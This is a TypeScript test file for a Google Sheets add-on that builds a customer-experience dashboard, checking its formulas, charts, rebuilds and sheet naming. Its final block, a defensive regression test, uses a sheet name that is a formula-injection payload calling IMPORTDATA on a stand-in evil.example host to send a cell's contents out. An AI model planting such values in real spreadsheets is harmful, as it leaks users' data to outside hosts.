import { beforeAll, describe, expect, it } from 'vitest';
import { demoWorkbook, FORM_SHEET } from '../../src/demo';
import { npsOfRange } from '../../src/metrics/nps';
import { csatOfRange } from '../../src/metrics/csat';
import type { WorkbookData } from '../../src/emulator/context';
import { ensureBuilt, openDemo, mapColumns } from '../../src/emulator/demo-session';

/**
 * The dashboard the wizard builds on the demo workbook, in the emulator running dist/Code.js:
 * its formulas are live and give the engine's numbers, its charts exist, and rebuilding touches
 * nothing but the add-on's own sheet.
 */

interface Built {
  sheetName: string;
  url: string;
  formulas: number;
  charts: number;
}
interface Preview {
  metric: string;
  sheet: string;
  value: number | null;
}

const KPI_FIRST_ROW = 6;

beforeAll(() => ensureBuilt());

function build(workbook?: WorkbookData, lang: 'en' | 'vi' = 'en') {
  const emu = openDemo({ workbook });
  const { mapping } = mapColumns(emu, lang);
  const built = emu.call<Built>('buildDashboard', { lang });
  return { emu, built, mapping };
}

/** The demo without its 30,000-row activity log: the same dashboard shape, quicker to evaluate. */
function smallDemo(): WorkbookData {
  const workbook = demoWorkbook();
  workbook.sheets = workbook.sheets.filter((s) => s.name !== 'Activity');
  return workbook;
}

function column(workbook: WorkbookData, sheetName: string, index: number): unknown[][] {
  const sheet = workbook.sheets.find((s) => s.name === sheetName)!;
  return sheet.rows.slice(1).map((row) => [row[index] ?? '']);
}

describe('the dashboard on the demo workbook', () => {
  const { emu, built, mapping } = build();
  const snapshot = emu.spreadsheet.snapshot();
  const dashboard = snapshot.sheets.find((s) => s.name === built.sheetName)!;
  const preview = emu.call<{ metrics: Preview[] }>('previewMetrics', { mapping }).metrics.filter((m) => m.value !== null);

  it('is a new sheet called CX Dashboard, remembered by developer metadata', () => {
    expect(built.sheetName).toBe('CX Dashboard');
    expect(built.url).toMatch(/#gid=\d+$/);
    const marks = snapshot.metadata.filter((m) => m.key === 'cx.dashboard');
    expect(marks).toHaveLength(1);
    expect(marks[0].visibility).toBe('PROJECT');
  });

  it('holds live formulas over open ranges of the mapped columns', () => {
    expect(dashboard.rows[KPI_FIRST_ROW - 1][1]).toBe(`=NPS('${FORM_SHEET}'!C2:C)`);
    expect(dashboard.rows.flat().filter((v) => typeof v === 'string' && v.startsWith('=')).length).toBe(built.formulas);
    expect(dashboard.rows.flat()).toContain(`=CX_TREND("NPS", '${FORM_SHEET}'!C2:C, '${FORM_SHEET}'!A2:A, "month")`);
    expect(dashboard.rows.flat()).toContain(`=CX_BY("NPS", '${FORM_SHEET}'!C2:C, '${FORM_SHEET}'!F2:F)`);
  });

  it('shows in each KPI cell the number the engine gives for the same cells', () => {
    expect(preview.length).toBeGreaterThanOrEqual(10);
    preview.forEach((metric, i) => {
      const cell = dashboard.values[KPI_FIRST_ROW - 1 + i][1];
      expect(emu.spreadsheet.formulaError(built.sheetName, `B${KPI_FIRST_ROW + i}`), `${metric.sheet} ${metric.metric}`).toBeNull();
      expect(cell, `${metric.sheet} ${metric.metric}`).toBeCloseTo(metric.value!, 9);
    });
    // And independently of the add-on: the engine straight on the demo data.
    const workbook = demoWorkbook();
    expect(dashboard.values[KPI_FIRST_ROW - 1][1]).toBeCloseTo(npsOfRange(column(workbook, FORM_SHEET, 2)).value, 9);
    expect(dashboard.values[KPI_FIRST_ROW][1]).toBeCloseTo(csatOfRange(column(workbook, FORM_SHEET, 3)).value, 9);
  });

  it('spills the NPS breakdown, a monthly trend and a segment table without errors', () => {
    const text = dashboard.displayValues.map((row) => row.join('|')).join('\n');
    expect(text).toContain('Promoters');
    expect(text).toMatch(/Oct 2026\|\d+\|\d+\.\d/);
    expect(text).toContain('Store');
    expect(dashboard.values.flat().some((v) => typeof v === 'string' && v.startsWith('#'))).toBe(false);
  });

  it('draws a stacked bar of the NPS breakdown and line charts of the trends', () => {
    const charts = emu.spreadsheet.charts(built.sheetName);
    expect(charts).toHaveLength(built.charts);
    const bar = charts.find((c) => c.type === 'BAR')!;
    expect(bar.options.isStacked).toBe(true);
    expect(charts.filter((c) => c.type === 'LINE').map((c) => c.options.title)).toEqual(['NPS by month', 'CSAT % by month']);
  });
});

describe('rebuilding', () => {
  it('leaves one dashboard and every other sheet exactly as it was', () => {
    const { emu } = build(smallDemo());
    const others = () => emu.spreadsheet.snapshot().sheets.filter((s) => !s.name.startsWith('CX Dashboard'));
    const before = JSON.stringify(others());
    const first = emu.call<Built>('buildDashboard', { lang: 'en' });
    const second = emu.call<Built>('buildDashboard', { lang: 'en' });
    expect(second.sheetName).toBe(first.sheetName);
    expect(second.url).toBe(first.url);
    const snapshot = emu.spreadsheet.snapshot();
    expect(snapshot.sheets.filter((s) => s.name.startsWith('CX Dashboard'))).toHaveLength(1);
    expect(snapshot.metadata.filter((m) => m.key === 'cx.dashboard')).toHaveLength(1);
    expect(emu.spreadsheet.charts(second.sheetName)).toHaveLength(second.charts);
    expect(JSON.stringify(others())).toBe(before);
  });

  it('renames its own sheet when the language changes', () => {
    const { emu } = build(smallDemo());
    const vi = emu.call<Built>('buildDashboard', { lang: 'vi' });
    expect(vi.sheetName).toBe('Bảng điều khiển CX');
    const snapshotAfter = emu.spreadsheet.snapshot();
    const names = snapshotAfter.sheets.map((s) => s.name);
    expect(names).toContain('Bảng điều khiển CX');
    expect(names).not.toContain('CX Dashboard');
    const dashboard = snapshotAfter.sheets.find((s) => s.name === vi.sheetName)!;
    expect(dashboard.displayValues.flat()).toContain('Chỉ số chính');
  });
});

describe("a user's own sheet called CX Dashboard", () => {
  it('is never touched: the add-on takes the next free name', () => {
    const workbook = smallDemo();
    const theirs = { name: 'CX Dashboard', rows: [['My notes', 'Q3'], ['call Lan', 42]] };
    workbook.sheets.push(theirs);
    const { emu, built } = build(workbook);
    expect(built.sheetName).toBe('CX Dashboard (2)');
    emu.call('buildDashboard', { lang: 'en' });
    const snapshot = emu.spreadsheet.snapshot();
    const mine = snapshot.sheets.find((s) => s.name === 'CX Dashboard')!;
    expect(mine.rows).toEqual(theirs.rows);
    expect(mine.charts).toEqual([]);
    expect(snapshot.sheets.filter((s) => s.name.startsWith('CX Dashboard'))).toHaveLength(2);
  });
});

describe('a sheet whose name reads like a formula', () => {
  // Issue 15: the KPI "Data" label was built from the sheet name and written with setValues,
  // so this name became a live formula sending a cell to an outside host.
  const HOSTILE = `=IMPORTDATA("https://evil.example/?d="&Notes!A1)&"!x`;
  const workbook = smallDemo();
  workbook.sheets.find((s) => s.name === FORM_SHEET)!.name = HOSTILE;
  workbook.sheets.push({ name: 'Notes', rows: [['secret']] });
  const { emu, built } = build(workbook);
  const dashboard = emu.spreadsheet.snapshot().sheets.find((s) => s.name === built.sheetName)!;

  it('stays inert text in every label, and whole (its "!" does not cut it)', () => {
    const formulas = dashboard.rows.flat().filter((v): v is string => typeof v === 'string' && v.startsWith('='));
    // Every formula is one the add-on composed: the name appears only inside a quoted reference.
    for (const formula of formulas) expect(formula.replaceAll(`'${HOSTILE.replace(/'/g, "''")}'!`, '')).not.toContain('IMPORTDATA');
    const labels = dashboard.displayValues.flat().filter((v) => v.includes('IMPORTDATA'));
    expect(labels).toContain(`C2:C of ${HOSTILE}`);
    for (const label of labels) expect(label).not.toMatch(/^\s*[=+\-@]/);
  });

  it('still computes the metrics of that sheet through quoted references', () => {
    const nps = dashboard.rows.findIndex((row) => row[0] === 'NPS');
    expect(dashboard.values[nps][1]).toBeCloseTo(npsOfRange(column(workbook, HOSTILE, 2)).value, 9);
  });
});
